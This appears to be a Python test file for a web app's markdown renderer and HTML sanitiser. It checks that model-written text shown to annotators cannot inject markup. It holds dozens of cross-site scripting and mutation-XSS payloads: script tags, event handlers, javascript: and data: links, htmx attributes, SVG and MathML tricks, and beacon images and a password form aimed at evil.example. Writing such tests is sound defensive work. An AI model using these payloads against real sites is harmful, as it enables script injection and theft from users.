"""What a model may write to attack an annotator: shown as text, or not at all."""

# ruff: noqa: E501 - A payload stands on one line.

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.web.markdown import render_markdown
from app.web.text.sanitiser import sanitise
from tests.app.shown import problems_of

PAYLOADS = {
    "script": "<script>evil()</script>",
    "script in a quotation": "> - <script>evil()</script>",
    "image": "<img src=x onerror=evil()>",
    "remote image": '![beacon](https://evil.example/beacon.png "title")',
    "remote image by reference": "![beacon][b]\n\n[b]: https://evil.example/beacon.png",
    "image in a link": "[![beacon](https://evil.example/b.png)](https://evil.example)",
    "image with markup in its name": "![<img src=x onerror=evil()>](x)",
    "htmx": '<div hx-get="https://evil.example" hx-trigger="load" hx-on:click="evil()">evil</div>',
    "htmx with data": '<a data-hx-post="/sign-out" data-hx-trigger="load" data-hx-on:click="evil()">evil</a>',
    "htmx on body": '<body hx-on::load="evil()" hx-boost=true hx-ext=evil>',
    "partial": '<hx-partial hx-target="#workspace">evil</hx-partial>',
    "javascript": "[one](javascript:evil()) [two](JaVaScRiPt:evil()) [three](\tjavascript:evil())",
    "javascript in entities": "[one](java&#x09;script:evil()) [two](&#106;avascript:evil()) [three](javascript&colon;evil())",
    "javascript by reference": "[five]\n\n[five]: javascript:evil()",
    "javascript as an autolink": "<javascript:evil()> <vbscript:evil()> <data:text/html,evil>",
    "data address": "[a](data:text/html,<script>evil()</script>) [b](data:text/html;base64,ZXZpbA==) ![c](data:image/png,x)",
    "other schemes": "[a](file:///etc/passwd) [b](blob:evil) [c](ftp://evil.example) [d](intent://evil) [e](tel:1)",
    "links into the app": "[a](/sign-out) [b](sign-out) [c](//evil.example) [d](?evil) [e](#workspace) [f](\\\\evil.example)",
    "autolink with an attribute": "<https://evil.example/\"onclick=\"evil()> <https://evil.example/'onclick='evil()>",
    "title with an attribute": '[a](https://evil.example "x\\" onclick=\\"evil()")',
    "style": "<style>* { background: url(https://evil.example) }</style><p style='position: fixed'>evil</p>",
    "form": '<form action="https://evil.example"><input name=password autofocus onfocus=evil()><button>Submit</button></form>',
    "document": '<base href="https://evil.example"><meta http-equiv=refresh content="0; url=https://evil.example">',
    "frame": '<iframe srcdoc="<script>evil()</script>"></iframe><object data=evil></object><embed src=evil>',
    "closing": "</p></div></article></template></textarea></title><script>evil()</script>",
    "comment": "<!-- --><script>evil()</script><!-- --!> <![CDATA[<script>evil()</script>]]> <?php evil() ?>",
    "custom element": "<evil-element is=evil onclick=evil()>evil</evil-element><slot name=evil>",
    "dialog": "<dialog open>evil</dialog><details open ontoggle=evil()><summary>evil</summary></details><p popover id=skip>",
    "svg": "<svg onload=evil()><use href='data:image/svg+xml,evil'/><a xlink:href='javascript:evil()'>x</a></svg>",
    "svg style": "<svg><style><img src=x onerror=evil()></style></svg>",
    "mathml": "<math><maction actiontype='statusline#evil' xlink:href='javascript:evil()'>x</maction></math>",
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=evil()&gt;'>",
    "mathml annotation": "<math><annotation-xml encoding='text/html'><svg><script>evil()</script></svg></annotation-xml>",
    "formula with markup": r"$\text{<img src=x onerror=evil()>}$ \(\text{&lt;script&gt;evil()&lt;/script&gt;}\)",
    "formula with a link": r"$\href{javascript:evil()}{x}$ and $$\href{https://evil.example}{x}$$",
    "formula with a class": r"$\class{primary}{x}$ $\style{position:fixed}{x}$ $\color{red;position:fixed}{x}$",
    "formula over the page": r"$\hspace{-90em}x$ $\raise{90em}{x}$ $\rule{900em}{900em}$ $\kern-9em x$ $\llap{x}$",
    "formula with verbatim": r"$\verb|<script>evil()</script>|$ $\mbox{</math><script>evil()</script>}$",
    "formula with code points": r"$\unicode{x3c}$ $&#x3c;script&#x3e;$ $\unicode{0}$ $\unicode{xd800}$ $\unicode{x202e}$",
    "fence named markup": '```html"onclick="evil()\n<script>evil()</script>\n```\n\n~~~<script>\nevil()\n~~~',
    "fences in fences": "````\n```\n<script>evil()</script>\n````\n\n```html\n</code></pre><script>evil()</script>\n```",
    "fence of a formula": "```math\n\\text{</math><script>evil()</script>}\n```",
    "fence without an end": "```html\n<script>evil()</script>",
    "inline code": "`<script>evil()</script>` ``</code><img src=x onerror=evil()>``",
    "table": "| a |\n|---|\n| <img src=x onerror=evil()> `<b>` |\n| [a](javascript:evil()) |",
    "entities": "&lt;script&gt;evil()&lt;/script&gt; &#60;img src=x onerror=evil()&#62; &#0; &#xD800; &#x110000;",
    "escapes": r"\<script\>evil()\</script\> \[a\]\(javascript:evil()\)",
    "direction": "a \u202eevil\u202c \u2066b\u2069 \u2067 c \u200f\u061c d \u202d\u202b\u202a `\u202e` [\u202ex](https://evil.example)",
    "nul": "a\x00b <scr\x00ipt>evil()</script> [a](java\x00script:evil())",
    "controls": "<img/src=x\x0conerror=evil()> [a](\x01javascript:evil()) \x0b\x1b[31m \ufffe \ufdd0",
    "spaces": "[a](\u00a0javascript:evil()) [b](\u3000/sign-out) [c](http:evil) [d](http:/\\evil)",
    "template": "{{ visitor.csrf_token }} {% raw %} ${evil()} <%= evil() %>",
    "html in a heading": "# <h1 onclick=evil()>evil\n===\n<script>\n---",
    "long attribute": "<p " + "a=b " * 500 + "onclick=evil()>",
}
# What a broken renderer might let through to the sanitiser: ways to change markup by parsing it twice.
MUTATIONS = {
    "mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
    "malignmark": "<math><mtext><malignmark><style><img src=x onerror=evil()></style></malignmark></mtext></math>",
    "form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "annotation-xml": (
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=evil()></style></annotation-xml></math>"
    ),
    "annotation-xml without encoding": "<math><annotation-xml><p><style><!--</style><img src=x onerror=evil()>",
    "semantics": "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'><img src=x></annotation></semantics>",
    "svg in mtext": "<math><mtext><svg><foreignObject><img src=x onerror=evil()></foreignObject></svg></mtext></math>",
    "svg desc": '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
    "style in math": "<math><mi><style><img src=x onerror=evil()></style></mi></math>",
    "xmp": "<math><mtext><xmp></mtext></math><img src=x onerror=evil()></xmp>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=evil()>">',
    "template": "<template><math><mi></template><img src=x onerror=evil()>",
    "nested tables": "<table><math><mi><table><tr><td></math><img src=x onerror=evil()>",
    "handlers": "<math onclick=evil() href='javascript:evil()' style='x' class='x' id='x'><mi onclick=evil()>x</mi></math>",
    "maction": "<math><maction actiontype='toggle'><mi>a</mi><mi>b</mi></maction><merror>c</merror></math>",
    "our own classes": '<div class="wide dialog" role="dialog" aria-label="Sign in" tabindex="1" id="skip">x</div>',
    "a class of the page": '<span class="primary">x</span><p class="notice" dir="rtl">x</p><td class="x">x</td>',
}


def test_the_check_itself_finds_what_it_looks_for() -> None:
    for payload in (
        "<script>",
        "<p onclick=x>",
        "<a href=/x>",
        "<p class=primary>",
        "<math><mi><b>",
        "<!-- x -->",
        "<p>",
    ):
        assert problems_of(payload)
    assert problems_of('<p dir="auto"><a href="https://x.example" target="_blank">x</a></p>') == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_no_payload_gets_through(payload: str) -> None:
    assert problems_of(render_markdown(payload)) == []
    # In another text, in a list and in a quotation.
    assert problems_of(render_markdown(f"Sure!\n\n- one\n\n  {payload}\n\n> {payload}\n\n**{payload}** $x$")) == []


@pytest.mark.parametrize("payload", MUTATIONS.values(), ids=MUTATIONS)
def test_the_sanitiser_stands_alone(payload: str) -> None:
    html = sanitise(payload)
    assert sanitise(html) == html
    assert [problem for problem in problems_of(html) if " in <" not in problem] == []
    assert "<img" not in html
    assert "evil()>" not in html


@given(st.text(alphabet=st.sampled_from("ab <>\"'`$\\[](){}!*_~|-#>&;:/=\n\t0\u202e\u0633\x00x^"), max_size=60))
@settings(max_examples=400, deadline=None)
def test_no_text_gets_markup_through(text: str) -> None:
    html = render_markdown(text)
    assert problems_of(html) == []
    assert sanitise(html) == html
